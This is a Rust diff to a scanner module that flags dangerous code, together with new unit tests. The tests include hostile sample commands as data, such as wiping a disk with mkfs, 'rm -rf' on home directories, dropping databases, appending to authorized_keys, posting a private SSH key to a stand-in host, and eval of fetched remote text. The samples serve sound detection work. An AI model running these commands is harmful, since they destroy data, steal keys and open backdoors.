@@ -43,25 +43,32 @@ const HARMS: [&str; 30] = [
     "removeSync",
 ];
 
-/// Signs that something is written.
-const WRITES: [&str; 17] = [
-    "'w",
-    "\"w",
-    "'a'",
-    "\"a\"",
-    "'a+",
-    "\"a+",
+/// Signs that something is written, blanks left out: modes of `open`, and functions that put a text into a file.
+const WRITES: [&str; 24] = [
+    ",'w'",
+    ",'wb'",
+    ",'w+'",
+    ",'a'",
+    ",'ab'",
+    ",'a+'",
+    ",\"w\"",
+    ",\"wb\"",
+    ",\"w+\"",
+    ",\"a\"",
+    ",\"ab\"",
+    ",\"a+\"",
+    "mode='w",
+    "mode='a",
     ">>",
     "'>",
     "\">",
-    "write",
-    "append",
+    "write_text",
+    "write_bytes",
+    "writeFile",
+    "appendFile",
+    "File.write",
     "binwrite",
     "put_contents",
-    "copyfile",
-    "dump(",
-    "puts(",
-    "print ",
 ];
 
 /// Signs that another machine is reached.
@@ -90,19 +97,9 @@ const REACHES: [&str; 22] = [
     "dgram",
 ];
 
-/// Names that run a text as code.
-const RUNS_TEXT: [&str; 10] = [
-    "eval",
-    "exec(",
-    "instance_eval",
-    "loadstring",
-    "load(",
-    "Function(",
-    "source(",
-    "runInThisContext",
-    "execfile",
-    "compile(",
-];
+/// Functions that run a text as code.
+const RUNS_TEXT: [&str; 8] =
+    ["eval", "exec", "instance_eval", "loadstring", "Function", "source", "runInThisContext", "execfile"];
 
 /// Names that empty a store through a library.
 const EMPTIES: [&str; 14] = [
@@ -142,17 +139,27 @@ const WALKS: [&str; 12] = [
     "scandir",
 ];
 
-/// The longest text that is taken for a command, bytes.
+/// The longest text that is taken for a command, bytes, and the most that are.
 const LONGEST: usize = 2000;
+const MOST: usize = 50;
 
 /// True for code that reaches another machine.
 pub(super) fn reaches(code: &str) -> bool {
     REACHES.iter().any(|sign| code.contains(sign))
 }
 
+/// True if the code calls a function of that name: no method, and no part of a longer name.
+fn calls(code: &str, name: &str) -> bool {
+    let part = |c: char| c.is_alphanumeric() || c == '_';
+    code.match_indices(name).any(|(at, _)| {
+        let before = &code[..at];
+        let is_method = before.ends_with(['.', ':']) || before.ends_with("->");
+        !is_method && !before.ends_with(part) && !code[at + name.len()..].starts_with(part)
+    })
+}
+
 /// True if each file that is found is opened to be written from its beginning: `open(f, 'w')`.
-fn empties_each(code: &str) -> bool {
-    let squeezed: String = code.chars().filter(|c| !c.is_whitespace()).collect();
+fn empties_each(squeezed: &str) -> bool {
     squeezed.split("open(").skip(1).any(|rest| {
         let name = rest.trim_start_matches(|c: char| c.is_alphanumeric() || c == '_');
         name.len() < rest.len() && [",'w", ",\"w"].iter().any(|mode| name.starts_with(mode))
@@ -166,14 +173,16 @@ pub(super) fn reasons(code: &str, token: &str, span: &Range<usize>) -> Vec<Reaso
         reason(Level::Danger, effect, &shown, span.clone(), why).reaching(scope)
     };
     let has = |signs: &[&str]| signs.iter().any(|sign| code.contains(sign));
+    let squeezed: String = code.chars().filter(|c| !c.is_whitespace()).collect();
+    let writes = WRITES.iter().any(|sign| squeezed.contains(sign));
     let texts = texts(code);
     let mut found = Vec::new();
-    for text in &texts {
+    for text in texts.iter().take(MOST) {
         found.extend(command(text).map(|inner| say(&inner.effect, inner.why.clone(), text)));
         if let Some(what) = destroys(text) {
             found.push(say("delete", format!("it loses {what}, and only a backup brings that back"), &what));
         }
-        if has(&WRITES) && startup::runs_by_itself(text) {
+        if writes && startup::runs_by_itself(text) {
             found.push(say(
                 "persistence",
                 format!("the code in it writes to {text}, which runs by itself or lets others in"),
@@ -191,14 +200,14 @@ pub(super) fn reasons(code: &str, token: &str, span: &Range<usize>) -> Vec<Reaso
             "a whole store",
         ));
     }
-    if has(&ENCRYPTS) && has(&WALKS) && has(&WRITES) {
+    if has(&ENCRYPTS) && has(&WALKS) && writes {
         found.push(say(
             "overwrite",
             "the code in it makes files unreadable that it finds".to_owned(),
             "every file that it finds",
         ));
     }
-    if has(&WALKS) && empties_each(code) {
+    if has(&WALKS) && empties_each(&squeezed) {
         found.push(say(
             "overwrite",
             "the code in it empties each file that it finds".to_owned(),
@@ -215,7 +224,9 @@ pub(super) fn reasons(code: &str, token: &str, span: &Range<usize>) -> Vec<Reaso
     {
         found.push(say("delete", format!("the code in it takes away or changes what lies in {path}"), path));
     }
-    if has(&RUNS_TEXT) && texts.iter().any(|text| text.contains("://") && !text.contains(' ')) {
+    if RUNS_TEXT.iter().any(|name| calls(code, name))
+        && texts.iter().any(|text| text.contains("://") && !text.contains(' '))
+    {
         let all = "all that you may do on this machine";
         found.push(say("network-to-shell", "the code in it runs what another machine says".to_owned(), all));
     }
@@ -247,4 +258,52 @@ fn destroys(text: &str) -> Option<String> {
 fn words(code: &str) -> Vec<&str> {
     let words = code.split(|c: char| c.is_whitespace() || "\"'()[]{},;=".contains(c));
     words.filter(|word| word.len() > 1 && word.starts_with(['/', '~'])).collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{calls, reasons};
+
+    fn told(code: &str) -> Vec<String> {
+        reasons(code, code, &(0..code.len())).into_iter().map(|r| r.effect).collect()
+    }
+
+    #[test]
+    fn texts_say_what_code_is_for_by_whatever_name_it_is_done() {
+        for (code, effect) in [
+            ("x = 'sy' + 'stem'; getattr(o, x)('mkfs.ext4 /dev/sdb')", "device"),
+            ("go(['rm', '-rf', '/home'])", "delete"),
+            ("db.execute(\"DROP TABLE orders\")", "delete"),
+            ("m.dropDatabase()", "delete"),
+            ("open('/root/.ssh/authorized_keys', 'a').write(k)", "persistence"),
+            ("post('http://h.example', open('/home/u/.ssh/id_rsa'))", "network"),
+            ("eval(get('http://h.example/x'))", "network-to-shell"),
+            ("for f in glob('**/*', recursive=True): open(f, 'w')", "overwrite"),
+            ("file delete -force /home", "delete"),
+        ] {
+            assert!(told(code).iter().any(|own| own == effect), "{code}: {:?}", told(code));
+        }
+    }
+
+    #[test]
+    fn reading_and_looking_up_are_none_of_it() {
+        for code in [
+            "print(open('/etc/passwd').read())",
+            "open F, '/etc/hosts'; print while <F>",
+            "rows.append(open('/etc/hosts').read()); sys.stdout.write('words')",
+            "json.load(urlopen('https://h.example/a.json'))",
+            "/x/.exec('https://h.example')",
+            "re.compile('https://h.example')",
+            "f = open('out.txt', 'w'); f.write('x')",
+            "print(os.listdir('/usr/lib'))",
+        ] {
+            assert_eq!(told(code), [""; 0], "{code}");
+        }
+        assert!(calls("x = eval (y)", "eval") && !calls("re.exec(y)", "exec") && !calls("evaluate(y)", "eval"));
+    }
+
+    #[test]
+    fn so_many_texts_are_looked_at() {
+        assert_eq!(told(&"'rm -rf ~' , x; ".repeat(500)).len(), super::MOST);
+    }
 }
